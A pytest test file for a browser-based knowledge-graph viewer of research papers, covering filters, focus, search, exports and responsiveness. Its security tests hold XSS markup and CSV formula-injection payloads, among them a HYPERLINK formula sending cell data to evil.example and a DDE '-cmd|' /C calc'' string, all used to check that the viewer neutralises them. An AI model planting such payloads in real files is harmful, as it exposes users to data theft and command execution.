    assert report.node_types["Hardware"] == len(hardware) == 4
    before = _state(page)
    assert len(before["drawn"]) == report.nodes and before["hidden"] == []
    page.page.locator('#kg-legend input[value="Hardware"]').uncheck()
    s = _state(page)
    assert set(s["hidden"]) == hardware and len(s["drawn"]) == report.nodes - len(hardware)
    assert not set(s["drawn"]) & hardware
    touching = sum(1 for u, v in g.edges() if u in hardware or v in hardware)
    assert s["drawn_edges"] == report.edges - touching
    mentions_left = sum(1 for u, v, k in g.edges(keys=True) if k == "MENTIONS" and v not in hardware)
    assert "Hardware (0)" in s["legend"] and f"MENTIONS ({mentions_left})" in s["legend"]
    assert f"Model ({report.node_types['Model']})" in s["legend"]
    page.page.locator('#kg-legend input[value="VARIANT_OF"]').uncheck()
    page.page.locator('#kg-legend input[value="Hardware"]').check()
    s = _state(page)
    assert s["hidden"] == [] and s["drawn_edges"] == report.edges - report.edge_types["VARIANT_OF"]
    assert "VARIANT_OF (0)" in s["legend"] and "Hardware (4)" in s["legend"]
    page.page.locator('#kg-legend input[value="VARIANT_OF"]').check()
    # the mention slider: entities named by fewer papers go, papers stay
    page.page.locator("#kg-min-mentions").fill("2")
    s = _state(page)
    kept = {n for n in g if n.startswith("paper:")} | {
        n
        for n in g
        if n.startswith("entity:") and sum(1 for _, _, k in g.in_edges(n, keys=True) if k == "MENTIONS") >= 2
    }
    assert set(s["drawn"]) == kept and len(kept) == 6  # 3 papers; LLaMA, A100, PyTorch
    assert page.page.locator("#kg-min-mentions-value").inner_text() == "2"
    _no_trouble(page)


@pytest.mark.browser
def test_browser_click_focuses_fades_and_fills_the_panel(browser, viewer_graph, tmp_path):
    page, report = _viewer_page(browser, viewer_graph, tmp_path)
    g = viewer_graph
    llama = entity_key("llama")
    _click_node(page, llama)
    s = _state(page)
    assert s["focused"] == llama and s["selected"] == [llama]
    assert set(s["faded"]) == set(g) - _near(g, llama) and len(s["faded"]) == report.nodes - 3
    assert all((s["opacity"][n] < 1) == (n in s["faded"]) for n in g)
    panel = s["panel"]
    assert s["panel_title"] == "LLaMA" and s["panel_kind"] == "Model" and "Mentioned by: 2 papers" in panel
    assert "Réglage fin à Zürich: LoRA for LLaMA" in panel and "Quantised LLaMA on H100" in panel
    assert "Mentioned with (in view):" in panel and "PyTorch ×1" in panel
    assert "Year: 2023" in panel
    # a panel item moves the focus: the paper, then a mention highlighted in its abstract
    page.page.locator("#kg-details button.kg-link", has_text="Réglage fin").click()
    paper = paper_key("2402.00001")
    s = _state(page)
    assert s["focused"] == paper and set(s["faded"]) == set(g) - _near(g, paper)
    assert "Authors: Zoë Müller, Ana Pérez" in s["panel"] and "Year: 2024" in s["panel"]
    assert page.page.locator("#kg-details a.kg-source").get_attribute("href") == "https://arxiv.org/abs/2402.00001"
    marked = page.page.locator("#kg-details .kg-abstract .kg-mention").all_inner_texts()
    assert marked == ["LLaMA", "LoRA", "A100"]
    assert page.page.locator("#kg-details .kg-abstract").inner_text() == g.nodes[paper]["abstract"]
    page.page.locator("#kg-details .kg-abstract .kg-mention", has_text="A100").click()
    s = _state(page)
    assert s["focused"] == entity_key("a100") and s["panel_title"] == "A100"
    assert set(s["faded"]) == set(g) - _near(g, entity_key("a100"))
    # Esc: back to the whole view
    page.page.keyboard.press("Escape")
    s = _state(page)
    assert s["focused"] is None and s["faded"] == [] and s["selected"] == [] and s["panel_title"] is None
    assert all(o == 1 for o in s["opacity"].values())
    # only the neighbourhood: double-click, then the reset button
    _click_node(page, entity_key("pytorch"), double=True)
    s = _state(page)
    assert set(s["drawn"]) == _near(g, entity_key("pytorch")) and s["focused"] == entity_key("pytorch")
    page.page.locator("#kg-details button[data-hops='2']").click()
    two = set().union(*(_near(g, n) for n in _near(g, entity_key("pytorch"))))
    assert set(_state(page)["drawn"]) == two
    page.page.locator("#kg-reset").click()
    s = _state(page)
    assert len(s["drawn"]) == report.nodes and s["focused"] is None and s["faded"] == []
    _no_trouble(page)


@pytest.mark.browser
def test_browser_hostile_titles_stay_inert_in_search_and_panel(browser, xss_graph, tmp_path):
    page, _ = _viewer_page(browser, xss_graph, tmp_path)
    evil = graph_paper_node(xss_graph, XSS)
    page.page.locator("#kg-search").click()
    page.page.keyboard.type("<img")
    assert _state(page)["hits"] == [evil]
    assert page.page.locator("#kg-hits .kg-hit-name").inner_text() == XSS
    page.page.keyboard.press("Enter")
    s = _state(page)
    assert s["focused"] == evil and s["panel_title"] == XSS
    abstract = page.page.locator("#kg-details .kg-abstract").inner_text()
    assert "<script>alert(2)</script>" in abstract and "</div><b>bold</b>" in abstract
    bold = next(n for n in xss_graph if xss_graph.nodes[n].get("title", "").startswith("Scaling <b>"))
    _click_node(page, bold)
    assert _state(page)["panel_title"] == xss_graph.nodes[bold]["title"]
    counts = page.page.evaluate("""() => ['#kg-details', '#kg-hits', '#kg-legend'].map(
        s => document.querySelector(s).querySelectorAll('img, script, b, iframe').length)""")
    assert counts == [0, 0, 0]
    assert page.page.evaluate("() => document.querySelectorAll('img').length") == 0
    _no_trouble(page)


@pytest.mark.browser
def test_browser_sample_graph_search_focus_and_filter(browser, seeds_graph, tmp_path):
    """The 500-node view of the sample corpus: search an entity, read its panel, untick papers."""
    page, report = _viewer_page(browser, seeds_graph, tmp_path)
    deepspeed = entity_key("deepspeed")
    drawn = set(page.page.evaluate("() => window.kgViz.nodes.getIds()"))
    assert deepspeed in drawn
    page.page.locator("#kg-search").click()
    page.page.keyboard.type("microsoft deepspeed")  # an alias
    assert _state(page)["hits"][0] == deepspeed
    page.page.keyboard.press("Enter")
    s = _state(page)
    n = sum(1 for _, _, k in seeds_graph.in_edges(deepspeed, keys=True) if k == "MENTIONS")
    assert s["focused"] == deepspeed and s["panel_title"] == "DeepSpeed" and f"Mentioned by: {n} papers" in s["panel"]
    near = _near(seeds_graph, deepspeed) & drawn
    assert set(s["faded"]) == drawn - near and len(s["faded"]) > 400
    listed = page.page.locator("#kg-details .kg-row", has_text="Papers (in view)").inner_text()
    in_view = {p for p in seeds_graph.predecessors(deepspeed) if p in drawn and p.startswith("paper:")}
    assert all(seeds_graph.nodes[p]["title"].split()[0] in listed for p in in_view) and len(in_view) <= 12
    papers = {x for x in drawn if x.startswith("paper:")}
    page.page.locator('#kg-legend input[value="Paper"]').uncheck()
    s = _state(page)
    assert (
        len(s["drawn"]) == report.nodes - len(papers) and "Paper (0)" in s["legend"] and "MENTIONS (0)" in s["legend"]
    )
    assert s["focused"] == deepspeed  # still shown, still focused
    _no_trouble(page)


def test_page_details_cap_the_papers_listed_and_say_how_many_more(seeds_graph):
    from kg.viz.details import MAX_PAPERS, page_details

    top = max(
        (n for n in seeds_graph if n.startswith("entity:")),
        key=lambda n: sum(1 for _, _, k in seeds_graph.in_edges(n, keys=True) if k == "MENTIONS"),
    )
    d = page_details(seeds_graph, seeds_graph.nodes)[top]
    assert d["mention_count"] > MAX_PAPERS and len(d["papers"]) == MAX_PAPERS
    assert d["papers_more"] == d["mention_count"] - MAX_PAPERS


# ---------------------------------------------------------------- export: PNG, CSV and JSON of the view

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def _download(page: Page, what: str, tmp_path: Path) -> tuple[str, bytes]:
    """Click an export button; the file the browser saved, and its suggested name."""
    with page.page.expect_download() as info:
        page.page.locator(f"#kg-export-{what}").click()
    download = info.value
    assert download.failure() is None, download.failure()
    path = tmp_path / f"{what}-{download.suggested_filename}"
    download.save_as(path)
    return download.suggested_filename, path.read_bytes()


def _png_rows(data: bytes, first: int) -> tuple[int, int, list[bytes]]:
    """Width, height and the first `first` rows (RGBA bytes) of an 8-bit RGBA PNG, filters undone."""
    assert data[:8] == PNG_MAGIC
    length, kind = struct.unpack(">I4s", data[8:16])
    assert (length, kind) == (13, b"IHDR")
    width, height, depth, colour, _, _, interlace = struct.unpack(">IIBBBBB", data[16:29])
    assert (depth, colour, interlace) == (8, 6, 0)  # what a canvas encodes: RGBA, 8 bits, not interlaced
    idat, at = b"", 8
    while at < len(data):
        length, kind = struct.unpack(">I4s", data[at : at + 8])
        if kind == b"IDAT":
            idat += data[at + 8 : at + 8 + length]
        at += 12 + length
    raw, stride, rows = zlib.decompress(idat), width * 4, []
    prev = bytes(stride)
    for y in range(min(first, height)):
        kind, line = raw[y * (stride + 1)], bytearray(raw[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
        for i in range(stride):
            a = line[i - 4] if i >= 4 else 0
            b, c = prev[i], prev[i - 4] if i >= 4 else 0
            if kind == 1:
                line[i] = (line[i] + a) & 255
            elif kind == 2:
                line[i] = (line[i] + b) & 255
            elif kind == 3:
                line[i] = (line[i] + (a + b) // 2) & 255
            elif kind == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        rows.append(bytes(line))
        prev = line
    return width, height, rows


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")  # RFC 4180 line ends
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _in_view(page: Page) -> list[str]:
    return page.page.evaluate("() => window.kgViz.nodes.get().filter(n => !n.hidden).map(n => n.id)")


@pytest.mark.browser
def test_browser_export_png_is_the_drawing_on_a_white_background(browser, viewer_graph, tmp_path):
    page, _ = _viewer_page(browser, viewer_graph, tmp_path)
    name, data = _download(page, "png", tmp_path)
    canvas = page.page.evaluate("() => ['width', 'height'].map(k => document.querySelector('#mynetwork canvas')[k])")
    width, height, rows = _png_rows(data, 8)
    assert name == "kg-view.png" and [width, height] == canvas and width > 500 and height > 300
    assert len(data) > 10_000  # the drawing, not a blank image
    assert all(row[3::4] == b"\xff" * width for row in rows)  # opaque: the background painted behind
    assert rows[0][:4] == b"\xff\xff\xff\xff"  # white, like the page
    _no_trouble(page)


@pytest.mark.browser
def test_browser_export_csv_and_json_hold_the_nodes_in_view(browser, viewer_graph, tmp_path):
    """What a type toggle or a hop view hides is left out; what a focus only fades is kept."""
    from kg.viz.selection import neighbours

    page, report = _viewer_page(browser, viewer_graph, tmp_path)
    g = viewer_graph
    hardware = {n for n, d in g.nodes(data=True) if d.get("type") == "Hardware"}
    page.page.locator('#kg-legend input[value="Hardware"]').uncheck()
    visible = set(g) - hardware
    assert set(_in_view(page)) == visible
    name, data = _download(page, "csv", tmp_path)
    rows = _csv_rows(data)
    assert name == "kg-view.csv" and list(rows[0]) == ["key", "kind", "name", "mentions", "degree", "arxiv_id", "url"]
    assert len(rows) == len(visible) == report.nodes - len(hardware)
    assert {r["key"] for r in rows} == visible and not {r["kind"] for r in rows} & {"Hardware"}
    by_key = {r["key"]: r for r in rows}
    llama, paper = by_key[entity_key("llama")], by_key[paper_key("2402.00001")]
    assert (llama["kind"], llama["name"], llama["mentions"], llama["degree"]) == ("Model", "LLaMA", "2", "2")
    assert (llama["arxiv_id"], llama["url"]) == ("", "")
    assert (paper["kind"], paper["name"], paper["mentions"]) == ("Paper", "Réglage fin à Zürich: LoRA for LLaMA", "")
    assert paper["degree"] == str(len(neighbours(g, paper_key("2402.00001"))))
    assert (paper["arxiv_id"], paper["url"]) == ("2402.00001", "https://arxiv.org/abs/2402.00001")
    name, data = _download(page, "json", tmp_path)
    doc = json.loads(data)
    assert name == "kg-view.json" and doc["view"].startswith("whole graph:")
    assert [n["key"] for n in doc["nodes"]] == [r["key"] for r in rows]
    assert doc["nodes"][[n["key"] for n in doc["nodes"]].index(entity_key("llama"))]["mentions"] == 2
    expected = {(u, k, v) for u, v, k in g.edges(keys=True) if u in visible and v in visible}
    got = [(r["source"], r["type"], r["target"]) for r in doc["relationships"]]
    assert len(got) == len(expected) and set(got) == expected
    # a focus fades the rest but hides nothing: the same rows
    _click_node(page, entity_key("llama"))
    assert len(_state(page)["faded"]) > 0
    assert _csv_rows(_download(page, "csv", tmp_path)[1]) == rows
    # only one hop around LLaMA: its neighbours that are not Hardware, and the relationships among them
    page.page.locator("#kg-details button[data-hops='1']").click()
    near = _near(g, entity_key("llama")) - hardware
    assert {r["key"] for r in _csv_rows(_download(page, "csv", tmp_path)[1])} == near
    doc = json.loads(_download(page, "json", tmp_path)[1])
    assert {n["key"] for n in doc["nodes"]} == near
    assert {(r["source"], r["type"], r["target"]) for r in doc["relationships"]} == {
        (u, k, v) for u, v, k in g.edges(keys=True) if u in near and v in near
    }
    _no_trouble(page)


@pytest.mark.browser
def test_browser_export_csv_keeps_hostile_titles_as_text(browser, xss_graph, tmp_path):
    page, report = _viewer_page(browser, xss_graph, tmp_path)
    name, data = _download(page, "csv", tmp_path)
    rows = _csv_rows(data)
    assert len(rows) == report.nodes
    titles = {r["key"]: r["name"] for r in rows if r["kind"] == "Paper"}
    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click, ""here""")'
    at_sign = "@SUM(1+1) -cmd|' /C calc'!A0"
    assert titles[graph_paper_node(xss_graph, XSS)] == XSS
    bold = next(n for n in xss_graph if xss_graph.nodes[n].get("title", "").startswith("Scaling <b>"))
    assert titles[bold] == xss_graph.nodes[bold]["title"]  # <b> and "quotes" as they were
    assert titles[graph_paper_node(xss_graph, "2401.00005")] == "'" + formula  # guarded: a text cell
    assert titles[graph_paper_node(xss_graph, "2401.00006")] == "'" + at_sign
    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
    text = data.decode("utf-8")
    assert ',"' + ("'" + formula).replace('"', '""') + '",' in text  # quoted: it holds commas and quotes
    assert ',"Scaling <b>Mixture-of-Experts</b> on H100 ""clusters""",' in text
    assert f",{XSS}," in text  # nothing to quote: left bare
    # the cell rule itself, on what no title can hold (titles are squashed to one line)
    cells = page.page.evaluate("""() => ['a\\r\\nb', 'a\\nb', '-1', '+x', '\\tx', 'plain', 7, null].map(
        v => window.kgViz.csvCell(v))""")
    assert cells == ['"a\r\nb"', '"a\nb"', "'-1", "'+x", "'\tx", "plain", "7", ""]
    _no_trouble(page)


# ---------------------------------------------------------------- a 2,000-node page: measured, not timed

LATENCY_JS = """([name, target, start, watched, node]) => {
    // From the start event (capture phase, on `target`) to the first change under `watched` that shows the
    // result (`node`: the panel names it; otherwise any change), then to the end of the next frame painted.
    const t = document.querySelector(target), w = document.querySelector(watched);
    let t0 = null;
    t.addEventListener(start, () => { t0 = performance.now(); }, {capture: true, once: true});
    window.__kgLatency = window.__kgLatency || {};
    window.__kgLatency[name] = new Promise(resolve => {
        const seen = new MutationObserver(() => {
            if (t0 === null || (node && w.getAttribute('data-node') !== node)) { return; }
            seen.disconnect();
            const handled = performance.now() - t0;
            requestAnimationFrame(() => setTimeout(() => resolve({
                handled_ms: Math.round(handled * 10) / 10,
                painted_ms: Math.round((performance.now() - t0) * 10) / 10,
            }), 0));
        });
        seen.observe(w, {childList: true, subtree: true, attributes: true, characterData: true});
    });
}"""

FRAMES_JS = """() => {
    // Every animation frame's time until stopped: long frames are what a busy page shows as jank.
    const times = [];
    let running = true;
    const tick = t => { times.push(t); if (running) { requestAnimationFrame(tick); } };
    requestAnimationFrame(tick);
    window.__kgStopFrames = () => { running = false; return times; };
}"""

ZOOM_PAN_JS = """() => new Promise(resolve => {
    // In and out again, panning too: two animations of the view, 500 ms each at 60 frames a second (vis-network
    // counts frames, not time: slow frames make them longer).
    const net = window.kgViz.network, at = net.getViewPosition(), scale = net.getScale();
    const go = (position, s, then) => {
        net.once('animationFinished', then);
        net.moveTo({position, scale: s, animation: {duration: 500, easingFunction: 'easeInOutQuad'}});
    };
    go({x: at.x + 300, y: at.y + 200}, scale * 2.5, () => go(at, scale, resolve));
})"""


def _latency(page: Page, name: str, target: str, start: str, watched: str, act, node: str | None = None) -> dict:
    page.page.evaluate(LATENCY_JS, [name, target, start, watched, node])
    act()
    return page.page.evaluate(f"() => window.__kgLatency[{json.dumps(name)}]")


def _frames(page: Page, act) -> dict:
    """Frame intervals (ms) while `act` runs: count, median and 95th percentile."""
    page.page.evaluate(FRAMES_JS)
    act()
    times = page.page.evaluate("() => window.__kgStopFrames()")
    gaps = sorted(b - a for a, b in zip(times, times[1:]))
    assert len(gaps) > 0, "no frame was drawn"
    return {
        "frames": len(gaps),
        "span_ms": round(times[-1] - times[0]),
        "median_ms": round(gaps[len(gaps) // 2], 1),
        "p95_ms": round(gaps[min(len(gaps) - 1, int(len(gaps) * 0.95))], 1),
        "max_ms": round(gaps[-1], 1),
    }


def _empty_spot(page: Page) -> tuple[float, float]:
    """A point of the canvas with no node under it, near the middle (where a drag moves the view)."""
    return tuple(
        page.page.evaluate("""() => {
        const net = window.kgViz.network, r = document.getElementById('mynetwork').getBoundingClientRect();
        for (let d = 0; d < 400; d += 8) {
            for (const [dx, dy] of [[d, 0], [-d, 0], [0, d], [0, -d], [d, d], [-d, -d]]) {
                const x = r.width / 2 + dx, y = r.height / 2 + dy;
                if (net.getNodeAt({x, y}) === undefined && net.getEdgeAt({x, y}) === undefined) {
                    return [r.left + x, r.top + y];
                }
            }
        }
        return [r.left + 5, r.top + r.height - 5];
    }""")
    )


def _synthetic_graph(papers: int = 1500, per_type: int = 100, seed: int = 20) -> nx.MultiDiGraph:
    """`papers` papers and `per_type` entities of each of the five types: papers mention 1-4 entities, popular
    ones most (Zipf-like, as in real listings), a fifth cite earlier papers, some entities are variants."""
    import random

    rnd = random.Random(seed)
    g = nx.MultiDiGraph()
    types = ["Method", "Model", "Dataset", "Hardware", "Framework"]
    entities = [f"{t.lower()}-{i}" for t in types for i in range(per_type)]
    for eid in entities:
        t, i = eid.split("-")
        _entity(g, eid, f"{t.title()} {i}", t.title(), aliases=[f"{t[:2].upper()}{i}"])
    weights = [1 / (1 + i % per_type) for i in range(len(entities))]
    for i in range(papers):
        named = set(rnd.choices(entities, weights, k=rnd.randint(1, 4)))
        title = f"Study {i}: " + " with ".join(g.nodes[entity_key(e)]["name"] for e in sorted(named))
        _paper(g, f"s{i}", title, f"An abstract for study {i}.")
        for e in named:
            _rel(g, paper_key(f"s{i}"), entity_key(e), Rel.MENTIONS.value, count=1, surfaces=[e])
        if i and rnd.random() < 0.2:
            for j in rnd.sample(range(i), min(i, rnd.randint(1, 2))):
                _rel(g, paper_key(f"s{i}"), paper_key(f"s{j}"), Rel.CITES.value, via=[])
    for eid in rnd.sample(entities, 60):
        t, i = eid.split("-")
        if int(i):
            _rel(g, entity_key(eid), entity_key(f"{t}-{rnd.randrange(int(i))}"), Rel.VARIANT_OF.value)
    return g


@pytest.mark.browser
def test_browser_2000_nodes_stay_responsive(browser, tmp_path):
    """A 2,000-node page: time to a frozen layout, frame times while the view moves and is dragged, and how long
    a keystroke, a type toggle and a click take to show. Recorded in the artifacts (viz_metrics.json), never asserted
    on (speed targets live in bench/): what is asserted is that it all happens."""
    g = _synthetic_graph()
    assert g.number_of_nodes() == 2000
    out = tmp_path / "2000.html"
    report = render(g, out, ViewOptions(max_nodes=5000))
    assert report.cut is None and report.nodes == 2000
    page = browser(out)
    facts = page.wait_stable(timeout_ms=240_000)
    _assert_clean(page, facts, report.nodes, report.edges)  # every node drawn, physics off
    page.page.wait_for_function("() => window.kgViz.viewerReady === true")
    assert page.page.evaluate("() => window.kgViz.network.physics.options.enabled") is False
    idle = _frames(page, lambda: page.page.wait_for_timeout(500))  # what the machine gives a page doing nothing
    zoom = _frames(page, lambda: page.page.evaluate(ZOOM_PAN_JS))
    x, y = _empty_spot(page)
    view = "() => Object.values(window.kgViz.network.getViewPosition()).map(Math.round)"
    scale = "() => window.kgViz.network.getScale()"
    before_wheel = page.page.evaluate(scale)

    def wheel():  # the mouse wheel, as people zoom (edges are hidden meanwhile: hideEdgesOnZoom)
        page.page.mouse.move(x, y)
        for dy in [-120] * 10 + [120] * 10:
            page.page.mouse.wheel(0, dy)
            page.page.wait_for_timeout(40)

    wheeled = _frames(page, wheel)
    assert page.page.evaluate(scale) != before_wheel  # the wheel zoomed
    before = page.page.evaluate(view)

    def drag():
        page.page.mouse.move(x, y)
        page.page.mouse.down()
        for i in range(1, 41):
            page.page.mouse.move(x + 6 * i, y + 3 * i)
            page.page.wait_for_timeout(25)
        page.page.mouse.up()

    dragged = _frames(page, drag)
    assert page.page.evaluate(view) != before  # the drag moved the view (not a node)
    search = page.page.locator("#kg-search")
    search.click()
    keys = []
    for ch in "model 7":  # the first keystroke matches the most names
        press = functools.partial(page.page.keyboard.press, ch)
        keys.append(_latency(page, "key", "#kg-search", "keydown", "#kg-hits", press))
    hits = _state(page)["hits"]
    assert hits[0] == entity_key("model-7") and len(hits) == 12
    page.page.keyboard.press("Escape")
    toggle = _latency(
        page,
        "toggle",
        '#kg-legend input[value="Paper"]',
        "click",
        "#kg-legend",
        lambda: page.page.locator('#kg-legend input[value="Paper"]').uncheck(),
    )
    assert len(_state(page)["drawn"]) == 500  # the entities only
    page.page.locator('#kg-legend input[value="Paper"]').check()
    hub = entity_key("method-0")  # among the most mentioned: a long panel, and a fade of nearly every node
    page.page.evaluate("() => window.kgViz.network.fit({animation: false})")  # back in view after the drag
    click = _latency(page, "click", "#mynetwork", "pointerup", "#kg-details", lambda: _click_node(page, hub), hub)
    assert _state(page)["panel_title"] == "Method 0"
    _no_trouble(page)
    _record(
        "2000",
        {
            "nodes": facts["drawn_nodes"],
            "edges": facts["drawn_edges"],
            "stabilize_ms": facts["stabilize_ms"],
            "iterations": facts["iterations"],
            "idle_frames": idle,
            "zoom_pan_frames": zoom,
            "wheel_zoom_frames": wheeled,
            "drag_frames": dragged,
            "search_keystrokes": keys,
            "toggle_papers": toggle,
            "click_to_panel": click,
        },
    )
